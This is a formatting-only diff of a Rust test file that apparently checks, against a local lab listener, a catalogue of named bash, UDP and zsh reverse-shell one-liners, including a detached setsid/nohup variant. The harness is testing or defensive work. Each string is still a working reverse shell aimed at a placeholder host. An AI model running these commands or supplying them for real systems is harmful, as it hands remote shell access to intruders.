@@ -12,15 +12,30 @@ const TCP: [(&str, &str); 12] = [
     ("ampersand_first", "bash -i &> /dev/tcp/$H/$P <&1"),
     ("fd_196", "exec 196<>/dev/tcp/$H/$P; bash <&196 >&196 2>&196"),
     // The form of the cheat sheets: the first redirection fails, the shell goes on.
-    ("fd_196_classic", "0<&196; exec 196<>/dev/tcp/$H/$P; sh <&196 >&196 2>&196"),
+    (
+        "fd_196_classic",
+        "0<&196; exec 196<>/dev/tcp/$H/$P; sh <&196 >&196 2>&196",
+    ),
     ("fd_5_interactive", "exec 5<>/dev/tcp/$H/$P; bash -i <&5 >&5 2>&5"),
     ("sh_opens_and_duplicates", "sh -i 5<>/dev/tcp/$H/$P 0<&5 1>&5 2>&5"),
     ("without_stderr", "exec 7<>/dev/tcp/$H/$P; sh -i 0<&7 1>&7"),
-    ("without_the_first_descriptor", "exec 7<>/dev/tcp/$H/$P; sh 0<&7 1>&7 2>&7 7<&-"),
-    ("streams_first_exec_after", "exec 0<>/dev/tcp/$H/$P; exec 1>&0 2>&0; exec sh"),
-    ("stdin_is_the_only_open_description", "exec 0<>/dev/tcp/$H/$P 1>&0 2>&0; exec bash --norc -i"),
+    (
+        "without_the_first_descriptor",
+        "exec 7<>/dev/tcp/$H/$P; sh 0<&7 1>&7 2>&7 7<&-",
+    ),
+    (
+        "streams_first_exec_after",
+        "exec 0<>/dev/tcp/$H/$P; exec 1>&0 2>&0; exec sh",
+    ),
+    (
+        "stdin_is_the_only_open_description",
+        "exec 0<>/dev/tcp/$H/$P 1>&0 2>&0; exec bash --norc -i",
+    ),
     ("by_host_name", "exec 9<>/dev/tcp/localhost/$P; bash <&9 >&9 2>&9"),
-    ("orphaned", "setsid nohup bash -c 'exec 3<>/dev/tcp/$H/$P; bash <&3 >&3 2>&3; true' & exit 0"),
+    (
+        "orphaned",
+        "setsid nohup bash -c 'exec 3<>/dev/tcp/$H/$P; bash <&3 >&3 2>&3; true' & exit 0",
+    ),
 ];
 
 const UDP: [(&str, &str); 2] = [
@@ -29,14 +44,22 @@ const UDP: [(&str, &str); 2] = [
 ];
 
 const ZSH: [(&str, &str); 2] = [
-    ("same_descriptor", r#"exec zsh -c 'zmodload zsh/net/tcp && ztcp $H $P && zsh <&$REPLY >&$REPLY 2>&$REPLY; true'"#),
-    ("interactive", r#"exec zsh -fc 'zmodload zsh/net/tcp; ztcp $H $P; exec zsh -fi 0<&$REPLY 1>&0 2>&0'"#),
+    (
+        "same_descriptor",
+        r#"exec zsh -c 'zmodload zsh/net/tcp && ztcp $H $P && zsh <&$REPLY >&$REPLY 2>&$REPLY; true'"#,
+    ),
+    (
+        "interactive",
+        r#"exec zsh -fc 'zmodload zsh/net/tcp; ztcp $H $P; exec zsh -fi 0<&$REPLY 1>&0 2>&0'"#,
+    ),
 ];
 
 pub fn cases() -> Vec<Case> {
     let mut cases = Vec::new();
     for (name, script) in TCP {
-        cases.push(Case::new(format!("bash::tcp_{name}"), &["bash"], move |lab| lab.reverse(script)));
+        cases.push(Case::new(format!("bash::tcp_{name}"), &["bash"], move |lab| {
+            lab.reverse(script)
+        }));
     }
     for (name, script) in UDP {
         cases.push(Case::new(format!("bash::udp_{name}"), &["bash"], move |lab| {
@@ -44,10 +67,16 @@ pub fn cases() -> Vec<Case> {
         }));
     }
     for (name, script) in ZSH {
-        cases.push(Case::new(format!("zsh::ztcp_{name}"), &["zsh"], move |lab| lab.reverse(script)));
+        cases.push(Case::new(format!("zsh::ztcp_{name}"), &["zsh"], move |lab| {
+            lab.reverse(script)
+        }));
     }
     cases.push(Case::new("bash::tcp_over_ipv6", &["bash"], |lab| {
-        lab.reverse_to(&Listener::tcp(V6)?, "::1", "exec 5<>/dev/tcp/$H/$P; bash -i <&5 >&5 2>&5")
+        lab.reverse_to(
+            &Listener::tcp(V6)?,
+            "::1",
+            "exec 5<>/dev/tcp/$H/$P; bash -i <&5 >&5 2>&5",
+        )
     }));
     cases.push(Case::new("bash::udp_over_ipv6", &["bash"], |lab| {
         lab.reverse_to(&Listener::udp(V6)?, "::1", "exec 5<>/dev/udp/$H/$P; sh -i <&5 >&5 2>&5")
